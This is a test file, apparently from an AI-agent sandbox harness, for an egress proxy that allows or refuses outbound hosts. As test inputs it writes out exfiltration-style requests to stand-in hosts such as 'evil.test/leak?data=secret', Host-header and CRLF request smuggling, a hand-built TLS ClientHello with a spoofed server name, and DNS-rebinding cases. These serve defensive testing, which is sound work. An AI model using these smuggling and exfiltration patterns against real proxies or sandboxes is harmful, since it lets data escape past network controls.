import { createServer, type Server } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Doors } from '../../src/sandbox/doors.js';
import { dial, DialError, upstreamFor, type EgressVerdict } from '../../src/sandbox/egress.js';
import { Internet } from '../support/internet.js';

/** The proxy as the sandbox's processes see it, on the host: its door socket, the key first. */
function through(doors: Doors, port: number, request: string): Promise<string> {
  return new Promise((resolve) => {
    let got = '';
    const s = connect(join(doors.dir, `proxy-${port}`), () => s.write(`${doors.key}\nfrom other\n${request}`));
    s.on('data', (d: Buffer) => (got += d.toString('latin1')));
    s.on('error', () => undefined);
    s.on('close', () => resolve(got));
  });
}

const get = (url: string, host = new URL(url).host): string => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
const tunnel = (target: string, host: string): string =>
  `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\nGET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;

describe('the proxy chained to an upstream proxy (a company proxy, here a stand-in internet)', () => {
  const internet = new Internet();
  const doors = new Doors();
  const decided: string[] = [];
  const mismatched: string[] = [];
  const decide = async (host: string, port: number): Promise<EgressVerdict> => {
    decided.push(`${host}:${port}`);
    const allow = host.endsWith('.allowed.test');
    return { allow, ruleId: allow ? 'mine' : 'network.unknown', reason: allow ? 'listed' : 'not listed', allowLocal: false };
  };
  beforeAll(async () => {
    await internet.start();
    await doors.proxy(3128, {
      decide,
      dial: { upstream: upstreamFor(internet.env()) },
      mismatch: (host, port, _from, why) => void mismatched.push(`${host}:${port} ${why}`),
    });
  });
  afterAll(async () => {
    await doors.close();
    await internet.stop();
  });

  it('an allowed host is reached, by CONNECT and by a plain request', async () => {
    expect(await through(doors, 3128, tunnel('a.allowed.test:443', 'a.allowed.test'))).toMatch(
      /^HTTP\/1\.1 200 Connection Established\r\n\r\nHTTP\/1\.1 200 OK[\s\S]*hello from a\.allowed\.test\n$/,
    );
    expect(await through(doors, 3128, get('http://b.allowed.test/x?y=1'))).toMatch(/^HTTP\/1\.1 200 OK[\s\S]*hello from b\.allowed\.test\n$/);
    expect(internet.reached).toEqual(expect.arrayContaining(['a.allowed.test:443', 'b.allowed.test:80']));
  });

  it('a refused host gets 403 with the rule and reason, and never reaches the upstream', async () => {
    const answer = await through(doors, 3128, tunnel('evil.test:443', 'evil.test'));
    expect(answer).toMatch(/^HTTP\/1\.1 403 Forbidden\r\n/);
    expect(answer).toContain('x-harness-reason: harness refused evil.test:443 (network.unknown): not listed');
    const plain = await through(doors, 3128, get('http://evil.test/leak?data=secret'));
    expect(plain).toMatch(/^HTTP\/1\.1 403 Forbidden/);
    expect(plain).toContain('harness refused evil.test:80 (network.unknown): not listed');
    expect(internet.saw('evil.test')).toBe(false);
  });

  it('the Host header cannot name another host than the one decided on, nor can Connection strip it', async () => {
    expect(await through(doors, 3128, get('http://c.allowed.test/', 'evil.test'))).toContain('hello from c.allowed.test');
    const stripping = `GET http://c.allowed.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: host, close\r\n\r\n`;
    expect(await through(doors, 3128, stripping)).toContain('hello from c.allowed.test');
    expect(internet.saw('evil.test')).toBe(false);
  });

  it('every request on a kept-alive connection is decided on its own', async () => {
    const two = `GET http://d.allowed.test/ HTTP/1.1\r\nHost: d.allowed.test\r\n\r\nGET http://evil2.test/ HTTP/1.1\r\nHost: evil2.test\r\nConnection: close\r\n\r\n`;
    const answer = await through(doors, 3128, two);
    expect(answer).toContain('hello from d.allowed.test');
    expect(answer).toContain('harness refused evil2.test:80');
    expect(decided).toEqual(expect.arrayContaining(['d.allowed.test:80', 'evil2.test:80']));
    expect(internet.saw('evil2.test')).toBe(false);
  });

  it('a tunnel must carry the name it was allowed for: another Host or TLS server name is cut, and logged', async () => {
    // a shared front end routes by the name inside, not by the address the tunnel went to: plain
    // HTTP in a tunnel goes request by request, each with the decided name as its Host
    const fronted = await through(doors, 3128, tunnel('a.allowed.test:80', 'evil.test'));
    expect(fronted).toMatch(/^HTTP\/1\.1 200 Connection Established\r\n\r\nHTTP\/1\.1 200 OK[\s\S]*hello from a\.allowed\.test\n$/);
    const crlf = `CONNECT a.allowed.test:80 HTTP/1.1\r\n\r\n\r\n\r\nget / HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /2 HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n`;
    const two = await through(doors, 3128, crlf);
    expect(two).not.toContain('evil.test');
    const absolute = await through(
      doors,
      3128,
      `CONNECT a.allowed.test:80 HTTP/1.1\r\n\r\nGET http://evil.test/secret HTTP/1.1\r\nHost: a.allowed.test\r\nConnection: close\r\n\r\n`,
    );
    expect(absolute).toMatch(/HTTP\/1\.1 403 Forbidden/);
    expect(mismatched.join('\n')).toMatch(/a request inside the tunnel for a\.allowed\.test names "http:\/\/evil\.test\/secret"/);
    // a record some servers skip before the ClientHello: there is no name to check, so it is cut
    const alert = await through(doors, 3128, `CONNECT a.allowed.test:443 HTTP/1.1\r\n\r\n\x15\x03\x01\x00\x02\x01\x5a`);
    expect(alert).toBe('HTTP/1.1 200 Connection Established\r\n\r\n');
    expect(mismatched.join('\n')).toMatch(/a\.allowed\.test:443 the tunnel carries no TLS server name/);
    const tls = await new Promise<string>((resolve) => {
      const s = connect(join(doors.dir, 'proxy-3128'), () => s.write(`${doors.key}\nfrom other\nCONNECT a.allowed.test:443 HTTP/1.1\r\n\r\n`));
      let got = '';
      s.on('data', (d: Buffer) => {
        got += d.toString('latin1');
        if (got.endsWith('\r\n\r\n') && got.length < 60) {
          // a ClientHello naming another site (hand-made: record, handshake, SNI extension only)
          const name = Buffer.from('evil.test');
          const sni = Buffer.concat([Buffer.from([0, 0, 0, name.length + 5, 0, name.length + 3, 0, 0, name.length]), name]);
          const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32), Buffer.from([0, 0, 2, 0x13, 0x01, 1, 0]), Buffer.from([0, sni.length]), sni]);
          const hs = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 255]), body]);
          s.write(Buffer.concat([Buffer.from([0x16, 3, 1, hs.length >> 8, hs.length & 255]), hs]));
        }
      });
      s.on('error', () => undefined);
      s.on('close', () => resolve(got));
    });
    expect(tls).toBe('HTTP/1.1 200 Connection Established\r\n\r\n');
    expect(mismatched.join('\n')).toMatch(/a\.allowed\.test:443 the tunnel for a\.allowed\.test carries the TLS server name "evil\.test"/);
    expect(internet.saw('evil.test')).toBe(false);
    // the right name goes through
    expect(await through(doors, 3128, tunnel('a.allowed.test:80', 'a.allowed.test'))).toContain('hello from a.allowed.test');
  });

  it('what is not a request for a host is refused without a connection', async () => {
    expect(await through(doors, 3128, 'CONNECT nonsense HTTP/1.1\r\n\r\n')).toMatch(/^HTTP\/1\.1 403/);
    expect(await through(doors, 3128, get('https://a.allowed.test/'))).toMatch(/^HTTP\/1\.1 400/);
    expect(await through(doors, 3128, 'GET /relative HTTP/1.1\r\nHost: a.allowed.test\r\nConnection: close\r\n\r\n')).toMatch(/^HTTP\/1\.1 400/);
  });
});

describe('the proxy dialling directly', () => {
  let site: Server;
  let sitePort: number;
  const doors = new Doors();
  // every name resolves to this machine: what a hostile DNS answer (or /etc/hosts) would do
  const resolve = async (): Promise<string[]> => ['127.0.0.1'];
  const verdicts: Record<string, EgressVerdict> = {
    'rebound.test': { allow: true, ruleId: 'wild', reason: 'a wildcard allowed it', allowLocal: false },
    'dev.test': { allow: true, ruleId: 'dev', reason: 'named exactly', allowLocal: true },
    '127.0.0.1': { allow: true, ruleId: 'dev-ip', reason: 'named exactly', allowLocal: true },
  };
  beforeAll(async () => {
    site = createServer((req, res) => res.end(`site ${req.headers.host}\n`));
    await new Promise<void>((r) => site.listen(0, '127.0.0.1', r));
    sitePort = (site.address() as AddressInfo).port;
    await doors.proxy(3128, {
      decide: async (host) => verdicts[host] ?? { allow: false, ruleId: 'x', reason: 'no', allowLocal: false },
      dial: { upstream: () => null, resolve },
    });
  });
  afterAll(async () => {
    await doors.close();
    site.closeAllConnections();
    await new Promise<void>((r) => site.close(() => r()));
  });

  it('an allowed name that resolves to this machine is refused unless the rule named it exactly', async () => {
    const rebound = await through(doors, 3128, tunnel(`rebound.test:${sitePort}`, 'rebound.test'));
    expect(rebound).toMatch(/^HTTP\/1\.1 403 Forbidden/);
    expect(rebound).toContain('rebound.test resolves to 127.0.0.1');
    expect(await through(doors, 3128, get(`http://rebound.test:${sitePort}/`))).toMatch(/^HTTP\/1\.1 403/);
    expect(await through(doors, 3128, tunnel(`dev.test:${sitePort}`, 'dev.test'))).toContain(`site dev.test:${sitePort}\n`);
    expect(await through(doors, 3128, get(`http://127.0.0.1:${sitePort}/`))).toContain(`site 127.0.0.1:${sitePort}`);
  });

  it('an allowed destination that does not answer is a 502, not a hang', async () => {
    const closed = await new Promise<number>((r) => {
      const s = createServer();
      s.listen(0, '127.0.0.1', () => {
        const p = (s.address() as AddressInfo).port;
        s.close(() => r(p));
      });
    });
    expect(await through(doors, 3128, tunnel(`127.0.0.1:${closed}`, 'x'))).toMatch(/^HTTP\/1\.1 502 Bad Gateway[\s\S]*ECONNREFUSED/);
  });
});

describe("a name that resolves to one of this machine's interface addresses", () => {
  it('is refused, the addresses read when a name is first dialed and not before', async () => {
    let reads = 0;
    const ownAddresses = (): ReadonlySet<string> => {
      reads++;
      return new Set(['192.0.2.7']);
    };
    const opts = { upstream: () => null, resolve: async (): Promise<string[]> => ['192.0.2.7'], ownAddresses };
    const wild: EgressVerdict = { allow: true, ruleId: 'wild', reason: 'a wildcard allowed it', allowLocal: false };
    expect(reads).toBe(0);
    const refused = await dial('lan.example.test', 22, wild, opts).catch((e: unknown) => e);
    expect(refused).toBeInstanceOf(DialError);
    expect((refused as DialError).message).toContain('lan.example.test resolves to 192.0.2.7');
    expect(reads).toBe(1);
  });
});

describe('upstreamFor: the proxy harness itself was told to use', () => {
  it.each([
    [{ HTTPS_PROXY: 'http://proxy.corp:3128' }, 'example.com', 443, { host: 'proxy.corp', port: 3128, auth: null }],
    [{ https_proxy: 'http://u:p%40ss@proxy.corp:8080', HTTPS_PROXY: 'http://other:1' }, 'example.com', 443, { host: 'proxy.corp', port: 8080, auth: 'u:p@ss' }],
    [{ HTTP_PROXY: 'proxy.corp:3128' }, 'example.com', 80, { host: 'proxy.corp', port: 3128, auth: null }],
    [{ HTTP_PROXY: 'http://a:1', HTTPS_PROXY: 'http://b:2' }, 'example.com', 80, { host: 'a', port: 1, auth: null }],
    [{ ALL_PROXY: 'http://c:3' }, 'example.com', 8443, { host: 'c', port: 3, auth: null }],
    [{ HTTPS_PROXY: 'socks5://s:1080' }, 'example.com', 443, null],
    [{ HTTPS_PROXY: 'http://p:1', NO_PROXY: 'example.com,.internal' }, 'example.com', 443, null],
    [{ HTTPS_PROXY: 'http://p:1', NO_PROXY: 'example.com' }, 'api.example.com', 443, null],
    [{ HTTPS_PROXY: 'http://p:1', NO_PROXY: '.internal' }, 'git.internal', 443, null],
    [{ HTTPS_PROXY: 'http://p:1', NO_PROXY: '*' }, 'anything', 443, null],
    [{ HTTPS_PROXY: 'http://p:1', NO_PROXY: 'example.com' }, 'notexample.com', 443, { host: 'p', port: 1, auth: null }],
    [{}, 'example.com', 443, null],
  ])('%j for %s:%d', (env, host, port, expected) => {
    expect(upstreamFor(env)(host, port)).toEqual(expected);
  });
});

describe('the proxy does not let a connection sit on it', () => {
  const doors = new Doors();
  let release: () => void = () => undefined;
  let asked!: () => void;
  const decided = new Promise<void>((r) => (asked = r));
  beforeAll(async () => {
    // a decision that takes longer than the head deadline (a person thinking)
    const decide = (): Promise<EgressVerdict> =>
      new Promise((r) => {
        release = () => r({ allow: false, ruleId: 'slow', reason: 'thought about it', allowLocal: false });
        asked();
      });
    await doors.proxy(3128, { decide, dial: { upstream: () => null }, headMs: 300 });
  });
  afterAll(() => doors.close());

  it('a head sent byte by byte, or never, is cut off; a connection waiting for its decision is not', async () => {
    const started = Date.now();
    const silent = through(doors, 3128, '');
    const dribble = new Promise<string>((resolve) => {
      let got = '';
      const s = connect(join(doors.dir, 'proxy-3128'), () => s.write(`${doors.key}\nfrom other\nCONNECT paste.rs:443 HTTP/1.1\r\n`));
      const timer = setInterval(() => s.writable && s.write('X-a: b\r\n'), 100);
      s.on('data', (d: Buffer) => (got += d.toString()));
      s.on('error', () => undefined);
      s.on('close', () => (clearInterval(timer), resolve(got)));
    });
    expect(await silent).toBe('');
    expect(await dribble).toBe('');
    expect(Date.now() - started).toBeLessThan(10_000);
    const waiting = through(doors, 3128, tunnel('slow.test:443', 'slow.test'));
    await decided;
    // a silent connection opened after it is cut at its own deadline: the waiting one's has passed too
    expect(await through(doors, 3128, '')).toBe('');
    release();
    expect(await waiting).toMatch(/^HTTP\/1\.1 403 Forbidden[\s\S]*thought about it/);
  });
});

describe('an allowed tunnel must say what it carries in time', () => {
  const internet = new Internet();
  const doors = new Doors();
  beforeAll(async () => {
    await internet.start();
    await doors.proxy(3128, {
      decide: async () => ({ allow: true, ruleId: 'ok', reason: 'ok', allowLocal: false }),
      dial: { upstream: upstreamFor(internet.env()) },
      headMs: 300,
    });
  });
  afterAll(async () => {
    await doors.close();
    await internet.stop();
  });

  it('a tunnel that stays silent, or stops inside its ClientHello, is closed', async () => {
    const started = Date.now();
    expect(await through(doors, 3128, 'CONNECT quiet.test:443 HTTP/1.1\r\n\r\n')).toBe('HTTP/1.1 200 Connection Established\r\n\r\n');
    expect(await through(doors, 3128, 'CONNECT half.test:443 HTTP/1.1\r\n\r\n\x16\x03')).toBe('HTTP/1.1 200 Connection Established\r\n\r\n');
    expect(Date.now() - started).toBeLessThan(20_000);
  });
});
